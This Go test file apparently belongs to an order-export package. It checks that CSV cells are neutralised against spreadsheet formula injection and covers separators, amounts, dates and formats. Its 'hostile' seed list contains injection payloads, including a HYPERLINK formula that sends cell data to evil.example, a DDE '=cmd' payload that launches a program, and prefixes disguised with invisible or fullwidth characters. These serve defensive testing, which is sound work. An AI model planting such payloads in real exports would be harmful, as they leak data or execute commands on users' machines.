package export

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"pgregory.net/rapid"

	"github.com/orderdeck/orderdeck/store/order"
)

// hostile are texts that break careless writers, readers or people.
var hostile = []string{
	"", " ", "a", "Łódź", "山田健太", "a,b", "a;b", "a\tb", "a|b", `say "hi"`, `"`, `""`, "two\nlines", "two\r\nlines", "lone\rCR",
	"nul\x00byte", "\x00", " padded ", "\u00a0", "'", "''", "'75008", "O'Neill", "\\.", "#1001", "é",
	"=1+1", "+48 42 555 01 03", "-12,50", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "  \u00a0=1", "\u200b=1", "\ufeff=1",
	"＝1", "＋1", "－1", "＠1", "\u3000＝1", "'=1", "''=1", "' =1", "'\u200b-", "\u00ad=1", "\u2066=1", "\u202e=1", "\x00=1", "\x1b=1",
	`=HYPERLINK("http://evil.example/?d="&A1;"click")`, "=cmd|'/c calc'!A1", "a=1", "1-2", "x@example.com",
}

func text(t *rapid.T, label string) string {
	return rapid.OneOf(rapid.String(), rapid.SampledFrom(hostile),
		rapid.Map(rapid.SliceOfN(rapid.SampledFrom(hostile), 0, 4), func(s []string) string { return strings.Join(s, "") }),
	).Draw(t, label)
}

// TestReadersSeeWhatWasWritten reads every file back with the standard library's reader.
func TestReadersSeeWhatWasWritten(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		f := rapid.SampledFrom(formats).Draw(t, "format")
		f.Raw = rapid.Bool().Draw(t, "raw")
		width := rapid.IntRange(1, 4).Draw(t, "width")
		var want [][]string
		var out bytes.Buffer
		e := newEncoder(&out, f, time.UTC)
		changed := int64(0)
		for range rapid.IntRange(1, 5).Draw(t, "rows") {
			row := []string{"x"} // a row of one empty cell is an empty line, which readers skip
			e.word("x")
			for range width {
				s := text(t, "cell")
				e.string(s)
				if !f.Raw {
					var did bool
					if s, did = Neutralise(s); did {
						changed++
					}
				}
				row = append(row, asRead(s))
			}
			if err := e.row(); err != nil {
				t.Fatal(err)
			}
			want = append(want, row)
		}
		if err := e.flush(); err != nil {
			t.Fatal(err)
		}
		got := parse(t, f, out.Bytes())
		for i := range want {
			for j := range want[i] {
				if got[i][j] != want[i][j] {
					t.Fatalf("row %d cell %d: read %q, want %q\nfile %q", i, j, got[i][j], want[i][j], out.Bytes())
				}
			}
		}
		if e.neutralised != changed {
			t.Fatalf("%d cells counted as neutralised, want %d", e.neutralised, changed)
		}
		if e.written() != int64(out.Len()) {
			t.Fatalf("%d bytes counted, want %d", e.written(), out.Len())
		}
	})
}

// asRead is what a cell must read as: line breaks are LF, NUL is visible.
func asRead(s string) string {
	return strings.NewReplacer("\r\n", "\n", "\r", "\n", "\x00", "\ufffd").Replace(s)
}

func parse(t interface{ Fatal(...any) }, f Format, data []byte) [][]string {
	if f.BOM {
		var ok bool
		if data, ok = bytes.CutPrefix(data, []byte("\xef\xbb\xbf")); !ok {
			t.Fatal("there is no byte order mark")
		}
	}
	r := csv.NewReader(bytes.NewReader(data))
	r.Comma = rune(f.Separator)
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

// inert tells, without the code under test, whether a spreadsheet takes a cell for a text.
func inert(s string) bool {
	s = strings.TrimLeftFunc(s, invisible)
	r, n := utf8.DecodeRuneInString(s)
	return n == 0 || !strings.ContainsRune("=+-@\t\r\n＝＋－＠", r)
}

func invisible(r rune) bool {
	return !strings.ContainsRune("\t\r\n", r) && (unicode.IsSpace(r) || !unicode.IsPrint(r))
}

func checkNeutral(t interface{ Fatalf(string, ...any) }, s string) {
	out, did := Neutralise(s)
	if !inert(out) {
		t.Fatalf("%q became %q, which a spreadsheet would run", s, out)
	}
	if back := Restore(out); back != s {
		t.Fatalf("%q became %q, which is restored to %q", s, out, back)
	}
	if did != (out != s) {
		t.Fatalf("%q became %q, but did = %v", s, out, did)
	}
	if did && unicode.IsLetter([]rune(s)[0]) {
		t.Fatalf("%q was changed for nothing", s)
	}
}

func TestNeutralise(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) { checkNeutral(t, text(t, "s")) })
	for _, s := range hostile {
		checkNeutral(t, s)
	}
	for s, want := range map[string]bool{
		"": false, "a": false, "'": false, "'75008": false, "O'Neill": false, "é": false, " a": false, "山": false, "#1": false,
		"=": true, "+1": true, "-": true, "@a": true, "\t": true, "\r": true, "\n": true, " =": true, "\u200b\u200b=": true,
		"＝": true, "'=": true, "\xff=": false, "a=": false, "1-1": false,
	} {
		if _, did := Neutralise(s); did != want {
			t.Errorf("%q neutralised: %v, want %v", s, did, want)
		}
	}
}

func FuzzNeutralise(f *testing.F) {
	for _, s := range hostile {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) { checkNeutral(t, s) })
}

func FuzzCell(f *testing.F) {
	for _, s := range hostile {
		f.Add(s, false)
	}
	f.Fuzz(func(t *testing.T, s string, raw bool) {
		for _, format := range formats {
			format.Raw = raw
			var out bytes.Buffer
			e := newEncoder(&out, format, time.UTC)
			e.word("x")
			e.string(s)
			e.string("y")
			if err := e.row(); err != nil {
				t.Fatal(err)
			}
			if err := e.flush(); err != nil {
				t.Fatal(err)
			}
			want := s
			if !raw {
				want, _ = Neutralise(s)
			}
			rows := parse(t, format, out.Bytes())
			if len(rows) != 1 || len(rows[0]) != 3 || rows[0][1] != asRead(want) || rows[0][2] != "y" {
				t.Fatalf("%q was written as %q and read as %q", s, out.Bytes(), rows)
			}
		}
	})
}

func TestCodes(t *testing.T) {
	f, _ := For(Machine)
	for s, want := range map[string]string{
		"": "", "01310-100": "'01310-100", "75008": "'75008", "SW1A 1AA": "SW1A 1AA", "'75008": "''75008", "-5": "'-5",
		"'=1": "''=1", "''": "'''",
	} {
		var out bytes.Buffer
		e := newEncoder(&out, f, time.UTC)
		e.code(s)
		e.word("x")
		_ = e.row()
		_ = e.flush()
		if got := parse(t, f, out.Bytes())[0][0]; got != want {
			t.Errorf("%q: %q, want %q", s, got, want)
		}
	}
}

func TestAmounts(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		m := order.Money{
			Minor:    rapid.Int64().Draw(t, "minor"),
			Currency: rapid.SampledFrom([]string{"BRL", "JPY", "CLP", "KWD", "CLF", "EUR", "XXX"}).Draw(t, "currency"),
		}
		q := order.Quantity(rapid.Int64().Draw(t, "quantity"))
		for _, f := range formats {
			e := newEncoder(nil, f, time.UTC)
			e.buf = e.buf[:0]
			e.money(m)
			e.quantity(q)
			point := strings.NewReplacer(".", string(rune(f.Decimal)))
			want := point.Replace(m.Decimal()) + string(rune(f.Separator)) + point.Replace(quantityText(q))
			if got := string(e.buf); got != want {
				t.Fatalf("%v %v: %s, want %s", m, int64(q), got, want)
			}
		}
	})
}

// quantityText also does the smallest int64, which Quantity.String cannot negate.
func quantityText(q order.Quantity) string {
	m := order.Money{Minor: int64(q), Currency: "CLF"} // four decimals
	return strings.TrimSuffix(strings.TrimRight(m.Decimal(), "0"), ".")
}

func TestExactAmounts(t *testing.T) {
	for _, c := range []struct {
		format string
		money  order.Money
		want   string
	}{
		{Machine, order.Money{Minor: 1050, Currency: "EUR", Exact: "10.4975"}, "10.4975"},
		{ExcelBR, order.Money{Minor: 1050, Currency: "EUR", Exact: "10.4975"}, "10,50"},
		{Machine, order.Money{Minor: -1, Currency: "EUR", Exact: "-0.005"}, "-0.005"},
		{Machine, order.Money{Minor: 100, Currency: "EUR", Exact: "=1+1"}, "1.00"}, // never anything but a number
		{Machine, order.Money{}, ""},
	} {
		f, _ := For(c.format)
		e := newEncoder(nil, f, nil)
		e.buf = e.buf[:0]
		e.money(c.money)
		if got := string(e.buf); got != c.want {
			t.Errorf("%s %+v: %q, want %q", c.format, c.money, got, c.want)
		}
	}
}

func TestDates(t *testing.T) {
	layouts := map[DateStyle]string{
		DatesISO: time.RFC3339, DatesSlash: "02/01/2006 15:04:05", DatesDotted: "02.01.2006 15:04:05", DatesSpaced: "2006-01-02 15:04:05 -0700",
	}
	var zones []*time.Location
	for _, name := range []string{"UTC", "America/Sao_Paulo", "Europe/Lisbon", "Europe/Warsaw", "Asia/Tokyo", "Australia/Lord_Howe", "Asia/Kathmandu"} {
		zone, err := time.LoadLocation(name)
		if err != nil {
			t.Fatal(err)
		}
		zones = append(zones, zone)
	}
	lo, hi := time.Date(1, 1, 2, 0, 0, 0, 0, time.UTC).UnixMilli(), time.Date(9998, 12, 31, 0, 0, 0, 0, time.UTC).UnixMilli()
	rapid.Check(t, func(t *rapid.T) {
		style := rapid.SampledFrom([]DateStyle{DatesISO, DatesSlash, DatesDotted, DatesSpaced}).Draw(t, "style")
		zone := rapid.SampledFrom(zones).Draw(t, "zone")
		e := newEncoder(nil, Format{Separator: ',', Dates: style}, zone)
		at := rapid.Int64Range(lo, hi).Draw(t, "at")
		for range rapid.IntRange(1, 20).Draw(t, "times") { // near each other, so that what it remembers is used
			at = min(max(at+rapid.Int64Range(-40*86400_000, 40*86400_000).Draw(t, "step"), lo), hi)
			if at == 0 {
				continue
			}
			e.buf, e.empty = e.buf[:0], true
			e.date(at)
			if want := time.UnixMilli(at).In(zone).Format(layouts[style]); string(e.buf) != want {
				t.Fatalf("%d in %s: %s, want %s", at, zone, e.buf, want)
			}
		}
	})
}

func TestFormats(t *testing.T) {
	for _, name := range Formats() {
		if f, err := For(name); err != nil || f.Name != name {
			t.Errorf("%s: %+v, %v", name, f, err)
		}
	}
	if _, err := For("excel"); err == nil || !strings.Contains(err.Error(), ExcelBR) {
		t.Errorf("an unknown format: %v", err)
	}
	for locale, want := range map[string]string{"pt-BR": ExcelBR, "pt-PT": ExcelPT, "pl": ExcelPL, "en": Machine, "": Machine} {
		if got := ForLocale(locale); got != want {
			t.Errorf("%s: %s, want %s", locale, got, want)
		}
	}
}

func TestPhonesAreCounted(t *testing.T) {
	for s, want := range map[string]int64{
		"+48 42 555 01 03": 1, "+1 (555) 010-0": 1, "+5": 1, "+": 0, "+ 5": 0, "+1+1": 0, "+A1": 0, "-5": 0, "=+48": 0, "48": 0, "": 0,
	} {
		e := newEncoder(nil, formats[0], nil)
		e.string(s)
		if e.phones != want || e.phones > e.neutralised {
			t.Errorf("%q: %d phones of %d neutralised", s, e.phones, e.neutralised)
		}
	}
}
